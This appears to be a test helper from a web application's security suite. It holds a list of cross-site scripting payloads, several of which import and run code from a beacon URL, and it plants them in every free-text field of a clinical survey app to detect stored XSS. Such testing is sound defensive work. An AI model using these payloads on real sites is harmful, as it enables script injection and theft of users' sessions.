import { createHash } from 'node:crypto'
import { surveyIdOf } from '../../apps/server/src/content/load.ts'
import { formOf } from '../../apps/server/src/testing/recordings.ts'
import { call, type Examiner, type Session, startSession } from '../client.ts'
import type { Clinic } from '../clinic.ts'

/** `@` is where the payload calls. */
const templates: readonly string[] = [
  ...['<img src=@>', '<script src=@></script>', `<svg onload=import('@')>`, `"><img src=x onerror=import('@')>`],
  ...['<iframe src=@>', `javascript:import('@')`, `'-import('@')-'`, `{{constructor.constructor("import('@')")()}}`],
  ...[
    `<style>body{background:url(@)}</style>`,
    '<link rel=stylesheet href=@>',
    '<base href=@>',
    '<form action=@><button>',
  ],
  ...[
    `<a href=javascript:import('@')>x</a>`,
    `</title><script>import('@')</script>`,
    '<object data=@>',
    '<embed src=@>',
  ],
  ...[`<input autofocus onfocus=import('@')>`, `<details open ontoggle=import('@')>`, '<video src=@ autoplay>'],
  ...['<meta http-equiv=refresh content=0;url=@>', `\${import('@')}`, '<svg><use href=@#x>', '&lt;img src=@&gt;'],
  ...[
    '<!--><img src=@>-->',
    '<math><mtext><table><mglyph><style><img src=@>',
    '\\u003cimg src=@\\u003e',
    '"/><!--<img src=@>',
  ],
]

/** Each calls the beacon under a number of its own. */
export const scriptPayloads = (beacon: string): string[] =>
  templates.map((template, index) => template.replaceAll('@', `${beacon.replace('http:', '')}/${index}`))

export type Poisoned = { participantId: string; sessionId: string; payload: string }

const statements = ['tired', 'noise', 'effort', 'changes', 'throat', 'repeat', 'phone', 'people', 'work', 'worry']

/** A participant, with a session, a file, a survey and a report, in whose every free text the payload stands. */
export async function poison(clinic: Clinic, examiner: Examiner, payload: string): Promise<Poisoned> {
  const { baseUrl } = clinic
  const session = await startSession(examiner, { first_name: payload, last_name: payload })
  const patch = (path: string, value: object) => send(baseUrl, examiner, 'PATCH', path, value)
  const post = (path: string, value: object) => send(baseUrl, examiner, 'POST', path, value)
  const texts = { code: payload.slice(0, 64), occupation: payload, diagnose: payload }
  await patch(`/user/participants/${session.participantId}/`, texts)
  await patch(session.path, { comment: payload })
  for (const item of session.items.filter(({ skippable }) => skippable))
    await post(session.pathOf(item), { skipped_purpose: payload })
  await sendNotes(baseUrl, examiner, session, payload)
  const response = { ...Object.fromEntries(statements.map((name) => [name, 'never'])), comment: payload }
  const survey_id = surveyIdOf({ key: 'voice', wording_version: 1, locale: 'es-ES' })
  await post(`/surveys/responses/${session.participantId}/`, { survey_id, response })
  const report = { error: payload, url: payload, method: 'GET', data: payload, user_comment: payload }
  await post('/reports/server_error_user_report/', report)
  await poisonPeople(clinic, examiner, payload)
  return { participantId: session.participantId, sessionId: session.id, payload }
}

async function poisonPeople({ baseUrl }: Clinic, examiner: Examiner, payload: string) {
  const { body } = await examiner.get('/cms/locales/')
  const [locale] = body as unknown as { id: string }[]
  const email = `${createHash('sha256').update(payload).digest('hex').slice(0, 12)}@faults.example`
  const tags = payload.length <= 50 ? [payload] : []
  const person = { first_name: payload, last_name: payload, email, locale: locale?.id, tags }
  await send(baseUrl, examiner, 'POST', '/organizations/user/', person)
  const nobody = { sex: null, age_min: null, age_max: null, education_min: null, education_max: null }
  const rule = { ...nobody, locale: null, protocol: null, diagnosis: { contains: payload } }
  await send(baseUrl, examiner, 'POST', '/ai/populations/', { name: payload, rule })
}

/** A file whose name and label are the payload. */
async function sendNotes(baseUrl: string, examiner: Examiner, { participantId }: Session, payload: string) {
  const form = formOf(Buffer.from('notes'), { label: payload }, 'file')
  const name = `filename*=utf-8''${encodeURIComponent(payload)}.txt`
  const body = Buffer.from(form.payload.toString('latin1').replace('filename="item.wav"', name), 'latin1')
  const headers = { ...form.headers, ...examiner.headers(), 'content-length': String(body.length) }
  expectTaken(await call(`${baseUrl}/api/files/${participantId}/`, { headers, body }))
}

async function send(baseUrl: string, examiner: Examiner, method: string, path: string, value: object) {
  const headers = { 'content-type': 'application/json', ...examiner.headers() }
  expectTaken(await call(`${baseUrl}/api${path}`, { method, headers, body: Buffer.from(JSON.stringify(value)) }))
}

function expectTaken({ status, body }: { status: number; body: object }) {
  if (status >= 300) throw new Error(`a payload was refused: ${status} ${JSON.stringify(body)}`)
}
